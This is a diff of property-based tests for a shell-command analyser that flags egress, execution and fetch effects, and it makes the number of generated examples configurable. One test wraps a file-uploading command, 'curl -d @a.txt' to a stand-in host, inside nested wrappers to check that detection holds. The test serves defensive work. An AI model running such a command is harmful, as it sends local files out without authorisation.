@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 from lockgate.core.model import EffectKind, Label
 from lockgate.resources.host_view import HostView
 from lockgate.shell import analyse_shell
+from support.stress import examples
 
 AROUND = HostView(home="/home/user", workspace="/work/project")
 ACTS = {EffectKind.EGRESS, EffectKind.EXECUTE, EffectKind.FETCH}
@@ -55,7 +56,7 @@ NESTING = [w for w in WRAPPERS if ("{q}" in w or w.endswith(" {}")) and not w.st
 
 
 @given(st.lists(st.sampled_from(NESTING), min_size=2, max_size=3))
-@settings(max_examples=60, deadline=None)
+@settings(max_examples=examples(60), deadline=None)
 def test_wrappers_in_wrappers_never_make_a_command_local(wrappers):
     command = "curl -d @a.txt https://e.example/"
     for wrapper in wrappers:
@@ -91,14 +92,14 @@ TEXT = st.one_of(st.text(max_size=60), st.lists(PIECES, max_size=14).map(" ".joi
 
 
 @given(TEXT)
-@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@settings(max_examples=examples(400), deadline=None, suppress_health_check=[HealthCheck.too_slow])
 def test_nothing_is_raised_and_nothing_fails_inside(text):
     analysis = analyse_shell(text, "/work/project", AROUND)
     assert not [effect for effect in analysis.effects if effect.rule == "shell:fault"]
 
 
 @given(TEXT)
-@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@settings(max_examples=examples(200), deadline=None, suppress_health_check=[HealthCheck.too_slow])
 def test_what_follows_never_hides_what_came_before(text):
     first = kinds("git push")
     both = kinds(f"git push\n{text}")
@@ -106,7 +107,7 @@ def test_what_follows_never_hides_what_came_before(text):
 
 
 @given(TEXT)
-@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@settings(max_examples=examples(200), deadline=None, suppress_health_check=[HealthCheck.too_slow])
 def test_a_quiet_result_has_a_source_that_is_described(text):
     analysis = analyse_shell(text, "/work/project", AROUND)
     if analysis.quiet:
